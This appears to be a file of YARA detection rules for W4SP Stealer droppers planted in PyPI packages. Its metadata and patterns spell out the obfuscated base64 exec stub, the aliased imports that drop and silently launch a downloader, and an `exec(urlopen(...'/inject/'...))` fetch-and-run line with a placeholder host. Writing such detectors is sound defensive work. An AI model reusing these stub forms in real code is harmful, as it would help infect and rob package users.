// W4SP Stealer droppers (PyPI, Oct-Nov 2022 and copies since): THREATS.md 1.4, 2.8.

rule W4SP_Builtins_Exec_Stub
{
    meta:
        id = "HS205"
        severity = "critical"
        family = "W4SP"
        description = "The W4SP dropper stub: `__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode('...'),'<string>','exec'))`, usually pushed off-screen after hundreds of spaces."
        reference = "Phylum and Checkmarx W4SP Stealer reports (Oct-Nov 2022), as compiled by The Hacker News / BleepingComputer; THREATS.md 1.4"
    strings:
        $stub = /__import__\(\s*['"]builtins['"]\s*\)\.exec\(\s*__import__\(\s*['"]builtins['"]\s*\)\.compile\(\s*__import__\(\s*['"]base64['"]\s*\)\.b64decode\(/
    condition:
        $stub
}

rule W4SP_Decoded_Stub
{
    meta:
        id = "HS206"
        severity = "critical"
        family = "W4SP"
        description = "The decoded W4SP stub, in clear or still base64-encoded: the aliases `NamedTemporaryFile as _ffile`, `executable as _eexecutable`, `system as _ssystem` (with `urlopen as _uurlopen`, a `/inject/` URL or the `pythonw` launch), which write a downloader to a temp file and start it without a console."
        reference = "Phylum and Checkmarx W4SP Stealer reports (Oct-Nov 2022), as compiled by The Hacker News / BleepingComputer; THREATS.md 1.4"
    strings:
        $a1 = "NamedTemporaryFile as _ffile"
        $a2 = "executable as _eexecutable"
        $a3 = "system as _ssystem"
        $b1 = "NamedTemporaryFile as _ffile" base64
        $b2 = "executable as _eexecutable" base64
        $b3 = "system as _ssystem" base64
        $x1 = "urlopen as _uurlopen"
        $x2 = "/inject/"
        $x3 = ".replace('.exe', 'w.exe')"
        $x4 = "urlopen as _uurlopen" base64
        $x5 = "/inject/" base64
    condition:
        (2 of ($a*) and (1 of ($x*) or all of ($a*))) or
        (2 of ($b*) and (1 of ($x*) or all of ($b*)))
}

rule W4SP_Inject_Url
{
    meta:
        id = "HS207"
        severity = "high"
        family = "W4SP"
        description = "The W4SP second-stage fetch: `exec(urlopen('http://<host>/inject/<token>').read())`, Python fetched from an `/inject/<token>` URL and executed."
        reference = "Phylum and Checkmarx W4SP Stealer reports (Oct-Nov 2022), as compiled by The Hacker News / BleepingComputer; THREATS.md 2.8"
    strings:
        $fetch = /exec\(\s*_*u*urlopen\(\s*(Request\(\s*url\s*=\s*)?['"]https?:\/\/[^'"\s\/]{4,80}\/inject\/[A-Za-z0-9_-]{6,64}['"]/
    condition:
        $fetch
}
